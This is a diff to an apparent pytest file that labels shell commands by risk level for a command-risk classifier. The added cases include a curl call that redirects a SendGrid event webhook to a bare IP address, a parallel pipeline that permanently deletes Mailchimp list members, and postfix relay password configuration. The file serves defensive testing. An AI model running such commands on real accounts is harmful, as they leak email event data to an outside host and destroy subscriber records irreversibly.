@@ -7827,6 +7827,29 @@ def test_clones_busy_loops_and_dry_runs(code: str, expected: RiskLevel) -> None:
             'nonfiles.example.net/upload',
             H,
         ),
+        # Round 64 (holdout428-431): webhooks at bare addresses, permanent deletes, postfix tables
+        (
+            'curl -s -X PATCH https://api.sendgrid.com/v3/user/webhooks/event/settings -H "Authorization: Bea'
+            'rer $SENDGRID_API_KEY" -d \'{"enabled":true,"url":"http://198.51.100.61:8081/ev"}\'',
+            H,
+        ),
+        (
+            'curl -s -X PATCH https://api.sendgrid.com/v3/user/webhooks/event/settings -d \'{"enabled":true,"u'
+            'rl":"https://hooks.acme.com/sendgrid"}\'',
+            L,
+        ),
+        (
+            'curl -s "https://us21.api.mailchimp.com/3.0/lists/L/members?count=1000&fields=members.id" | jq -'
+            'r \'.members[].id\' | xargs -P 8 -I{} curl -s -X POST "https://us21.api.mailchimp.com/3.0/lists/L/'
+            'members/{}/actions/delete-permanent"',
+            H,
+        ),
+        (
+            "sudo postconf -e 'relayhost = [smtp.sendgrid.net]:587' 'smtp_sasl_password_maps = hash:/etc/post"
+            "fix/sasl_passwd'\n"
+            'sudo postmap /etc/postfix/sasl_passwd',
+            M,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
